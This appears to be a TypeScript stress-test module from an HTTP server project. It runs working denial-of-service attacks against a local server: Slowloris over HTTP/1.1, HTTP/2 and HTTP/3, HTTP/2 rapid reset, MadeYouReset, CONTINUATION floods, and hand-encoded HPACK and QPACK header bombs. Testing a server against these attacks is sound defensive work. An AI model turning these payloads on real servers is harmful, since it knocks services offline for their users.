/** Attacks on an HTTP server over TCP and QUIC, each until it is stopped. A client that is cut off connects again. */

import { once } from "node:events";
import { connect, type TLSSocket } from "node:tls";
import {
  CONTINUATION,
  DATA,
  END_HEADERS,
  END_STREAM,
  frame,
  HEADERS,
} from "../../src/host/http/testing/http2-frames.ts";
import { RawHttp2 } from "../../src/host/http/testing/raw-http2.ts";
import { RawH3 } from "../soak/raw-h3.ts";

/** What an attack did. */
export interface Score {
  /** Connections that the server has cut. */
  cut: number;
  /** Connections that were opened. */
  opened: number;
}

export type HttpAttack = (port: number, score: Score, isOver: () => boolean) => Promise<void>;

/** Clients that are slow, and milliseconds between their bytes. */
const SLOW_CLIENTS = 200;
const SLOW_PACE = 250;
/** Clients that send as much as they can, and requests per turn. */
const FAST_CLIENTS = 2;
const BURST = 200;

const pause = (milliseconds: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, milliseconds));

// ── Slowloris: heads that never end ─────────────────────────────────────────────────────────────────────────────────

interface SlowClient {
  readonly isOver: boolean;
  /** Sends the next byte. */
  step(i: number): void;
  close(): void;
}

const slowly =
  (open: (port: number) => Promise<SlowClient>): HttpAttack =>
  async (port, score, isOver) => {
    const one = async (): Promise<void> => {
      while (!isOver()) {
        const client = await open(port).catch(() => undefined);
        if (client === undefined) {
          await pause(SLOW_PACE);
          continue;
        }
        score.opened += 1;
        for (let i = 0; !client.isOver && !isOver(); i += 1) {
          client.step(i);
          await pause(SLOW_PACE);
        }
        if (client.isOver) score.cut += 1;
        client.close();
      }
    };
    await Promise.all(Array.from({ length: SLOW_CLIENTS }, one));
  };

async function http1(port: number): Promise<TLSSocket> {
  const socket = connect({ port, host: "127.0.0.1", rejectUnauthorized: false, ALPNProtocols: ["http/1.1"] });
  socket.on("error", () => undefined).resume();
  await once(socket, "secureConnect");
  return socket;
}

const slowHttp1 = slowly(async (port) => {
  const socket = await http1(port);
  socket.write("GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ");
  return {
    get isOver() {
      return socket.destroyed;
    },
    step: () => void socket.write("x"),
    close: () => socket.destroy(),
  };
});

const slowHttp2 = slowly(async (port) => {
  const raw = await RawHttp2.open(port);
  raw.sendFrame(frame(HEADERS, 0, 1, Uint8Array.of(0x82)));
  return {
    get isOver() {
      return raw.isOver;
    },
    // A field line without end: a literal name of 1000 bytes, byte by byte.
    step: (i) =>
      raw.sendFrame(frame(CONTINUATION, 0, 1, i === 0 ? Uint8Array.of(0x10, 0x7f, 0xe9, 0x06) : Uint8Array.of(0x61))),
    close: () => raw.close(),
  };
});

const slowHttp3 = slowly(async (port) => {
  const raw = await RawH3.open(port, "localhost", {});
  // HEADERS of 1000 bytes, on ten streams.
  const head = Uint8Array.of(0x01, 0x43, 0xe8);
  return {
    isOver: false,
    step: (i) => {
      const frames = Array.from({ length: 10 }, (_, stream) => {
        const data = i === 0 ? head : Uint8Array.of(0);
        return { type: "stream", id: 4 * stream, offset: i === 0 ? 0 : head.length + i - 1, data, fin: false } as const;
      });
      raw.send(frames);
    },
    close: () => raw.close(),
  };
});

// ── Floods over HTTP/2, and heads that are bombs ────────────────────────────────────────────────────────────────────

const flood =
  (send: (raw: RawHttp2, i: number) => void): HttpAttack =>
  async (port, score, isOver) => {
    const one = async (): Promise<void> => {
      while (!isOver()) {
        const raw = await RawHttp2.open(port).catch(() => undefined);
        if (raw === undefined) continue;
        score.opened += 1;
        for (let i = 0; !raw.isOver && !isOver(); ) {
          for (let sent = 0; sent < BURST; sent += 1) send(raw, i++);
          await raw.turn();
        }
        if (raw.isOver) score.cut += 1;
        raw.close();
      }
    };
    await Promise.all(Array.from({ length: FAST_CLIENTS }, one));
  };

/** RFC 7541: POST, "/", https, :authority "localhost" and content-length "1". */
const ONE_BYTE_POST = Buffer.from(`8384870109${Buffer.from("localhost").toString("hex")}0f0d0131`, "hex");
/** 16 kB of field lines. */
const LINES = Buffer.alloc(16_000, Buffer.from([0x10, 1, 0x61, 1, 0x62]));
/** GET, "/", https, and a field of 4,000 bytes that the table keeps, referred to 12,000 times: 48 MB. */
const BOMB = Buffer.concat([
  Buffer.from([0x82, 0x84, 0x87, 0x40, 1, 0x61, 0x7f, 0xa1, 0x1e]),
  Buffer.alloc(4_000, 0x62),
  Buffer.alloc(12_000, 0xbe),
]);

/** The client's encoder stream: a table of 4,096 bytes, and a field of 4,000 bytes in it. */
const QPACK_INSERT = Buffer.concat([
  Buffer.from([0x02, 0x3f, 0xe1, 0x1f, 0x41, 0x61, 0x7f, 0xa1, 0x1e]),
  Buffer.alloc(4_000, 0x62),
]);
/** The same request over HTTP/3: GET, "/", https, :authority "localhost", and 12,000 references to that field. */
const QPACK_BOMB = Buffer.concat([
  Buffer.from([0x02, 0x00, 0xd1, 0xc1, 0xd7, 0x50, 9]),
  Buffer.from("localhost"),
  Buffer.alloc(12_000, 0x80),
]);
const STREAM_TYPE_CONTROL = 0x00;
/** Bytes of a stream in a packet. */
const PIECE = 1_200;
/** Requests of an HTTP/3 attacker on a connection; it does not read the credit for more. */
const MAX_H3_REQUESTS = 100;

async function http3Bombs(port: number, score: Score, isOver: () => boolean): Promise<void> {
  const one = async (): Promise<void> => {
    while (!isOver()) {
      const raw = await RawH3.open(port, "localhost", {}).catch(() => undefined);
      if (raw === undefined) continue;
      score.opened += 1;
      const send = (id: number, bytes: Uint8Array, fin: boolean): void => {
        for (let offset = 0; offset < bytes.length; offset += PIECE) {
          const data = bytes.subarray(offset, offset + PIECE);
          raw.send([{ type: "stream", id, offset, data, fin: fin && offset + PIECE >= bytes.length }]);
        }
      };
      // An empty SETTINGS frame.
      send(2, Uint8Array.of(STREAM_TYPE_CONTROL, 0x04, 0x00), false);
      send(6, QPACK_INSERT, false);
      const length = Buffer.alloc(2);
      length.writeUInt16BE(0x4000 | QPACK_BOMB.length);
      const request = Buffer.concat([Uint8Array.of(0x01), length, QPACK_BOMB]);
      for (let i = 0; i < MAX_H3_REQUESTS && !isOver(); i += 1) {
        send(4 * i, request, true);
        await pause(1);
      }
      raw.close();
    }
  };
  await Promise.all(Array.from({ length: FAST_CLIENTS }, one));
}

async function http1Bombs(port: number, score: Score, isOver: () => boolean): Promise<void> {
  const bomb = `GET / HTTP/1.1\r\nHost: localhost\r\n${"X-Bomb: b\r\n".repeat(20_000)}\r\n`;
  const one = async (): Promise<void> => {
    while (!isOver()) {
      const socket = await http1(port).catch(() => undefined);
      if (socket === undefined) continue;
      score.opened += 1;
      socket.write(bomb);
      await Promise.race([once(socket, "close"), pause(1_000)]);
      if (socket.destroyed) score.cut += 1;
      socket.destroy();
    }
  };
  await Promise.all(Array.from({ length: FAST_CLIENTS }, one));
}

export const HTTP_ATTACKS: Readonly<Record<string, HttpAttack>> = {
  "Slowloris over HTTP/1.1": slowHttp1,
  "Slowloris over HTTP/2": slowHttp2,
  "Slowloris over HTTP/3": slowHttp3,
  "rapid reset": flood((raw) => raw.reset(raw.request("GET"), 0x8)),
  MadeYouReset: flood((raw, i) => {
    raw.sendFrame(frame(HEADERS, END_HEADERS, 2 * i + 1, ONE_BYTE_POST));
    raw.sendFrame(frame(DATA, END_STREAM, 2 * i + 1, Buffer.from("xx")));
  }),
  "CONTINUATION flood": flood((raw, i) =>
    raw.sendFrame(i === 0 ? frame(HEADERS, 0, 1, LINES) : frame(CONTINUATION, 0, 1, LINES)),
  ),
  "header bombs over HTTP/2": flood((raw, i) =>
    raw.sendFrame(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, BOMB)),
  ),
  "header bombs over HTTP/3": http3Bombs,
  "header bombs over HTTP/1.1": http1Bombs,
};
